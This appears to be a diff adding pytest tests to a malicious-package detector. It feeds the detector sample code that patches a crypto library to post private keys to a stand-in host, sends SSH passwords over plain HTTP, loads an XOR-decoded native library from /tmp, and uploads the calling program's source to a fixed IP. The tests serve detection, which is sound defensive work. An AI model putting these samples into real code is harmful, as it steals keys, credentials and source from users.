@@ -709,3 +709,111 @@ def test_a_download_run_by_the_interpreter_named_before_it_is_a_threat() -> None
     )
     assert "CPL-THR-002" in danger(source)
     assert "CPL-THR-002" not in danger("import os, sys\nos.system(sys.executable + ' build.py')\n")
+
+
+# -- issue 4's families: a patched library, credentials handed over, files run natively -----
+
+
+def test_a_library_function_replaced_by_one_that_sends_its_arguments_is_a_threat() -> None:
+    source = """
+    import threading
+    import requests
+    import eth_account
+
+    _orig = eth_account.Account.from_key
+
+    def _patched(key):
+        threading.Thread(target=requests.post, args=("https://rpc.example/v",),
+                         kwargs={"json": {"k": str(key)}}).start()
+        return _orig(key)
+
+    eth_account.Account.from_key = _patched
+    """
+    assert "CPL-THR-025" in danger(source, "ethx/__init__.py")
+
+
+@pytest.mark.parametrize(
+    ("source", "filename"),
+    [
+        # a test replacing a library function with a fake that talks to a test server
+        (
+            "import requests\nimport somelib\n\ndef fake(url):\n"
+            "    return requests.post('https://httpbin.example/post')\n\n"
+            "somelib.api.fetch = fake\n",
+            "tests/test_api.py",
+        ),
+        # an instance's attribute replaced (a fixture), not the library's
+        (
+            "import aiohttp\nimport requests\n\ndef fake(*a):\n"
+            "    return requests.post('https://x.example/')\n\n"
+            "aiohttp.ClientSession()._connector.connect = fake\n",
+            "pkg/helpers.py",
+        ),
+        # a compatibility patch that sends nothing
+        (
+            "import requests\nimport somelib\n\ndef quiet(*a, **k):\n    return None\n\n"
+            "somelib.warn = quiet\nrequests.get('https://x.example/')\n",
+            "pkg/compat.py",
+        ),
+    ],
+)
+def test_patches_in_tests_of_instances_or_that_send_nothing_are_not_threats(
+    source: str, filename: str
+) -> None:
+    assert "CPL-THR-025" not in danger(source, filename)
+
+
+def test_credentials_handed_to_a_function_and_sent_in_clear_text_are_a_threat() -> None:
+    source = """
+    import requests
+
+    def ssh_connect(host, user, password=None, pkey=None):
+        requests.post("http://ssh-stats.example/i.php", data={"h": host, "p": password})
+    """
+    assert "CPL-THR-026" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a login to an HTTPS service, and a local development server over http
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('https://api.example.com/login', json={'password': password})\n",
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('http://localhost:8080/login', json={'password': password})\n",
+        # a token that is not a parameter of the function (read from configuration)
+        "import requests\nTOKEN = load()\ndef ping():\n"
+        "    requests.get('http://status.example/ping', headers={'t': TOKEN})\n",
+    ],
+)
+def test_credentials_sent_over_tls_to_localhost_or_not_handed_over_are_not_this_threat(
+    source: str,
+) -> None:
+    assert "CPL-THR-026" not in danger(source)
+
+
+def test_a_native_library_written_from_decoded_data_and_loaded_is_a_threat() -> None:
+    source = """
+    import ctypes, os
+    blob = bytearray(open(os.path.join(os.path.dirname(__file__), "a.dat"), "rb").read())
+    for i in range(len(blob)):
+        blob[i] ^= 0x3A
+    with open("/tmp/c.db", "wb") as f:
+        f.write(blob)
+    ctypes.CDLL("/tmp/c.db")
+    """
+    assert "CPL-THR-001" in danger(source)
+    # a library the package ships, loaded from where it lies
+    plain = "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n"
+    assert not danger(plain)
+
+
+def test_the_calling_program_sent_to_a_fixed_host_is_reconnaissance() -> None:
+    source = """
+    import inspect, requests
+    frame = inspect.stack()[-1]
+    requests.post("http://203.0.113.7/u", json={"code": open(frame.filename).read()})
+    """
+    assert "CPL-THR-017" in danger(source)
+    # frames inspected for a log message that stays local
+    assert not danger("import inspect, logging\nlogging.info(inspect.stack()[1].function)\n")
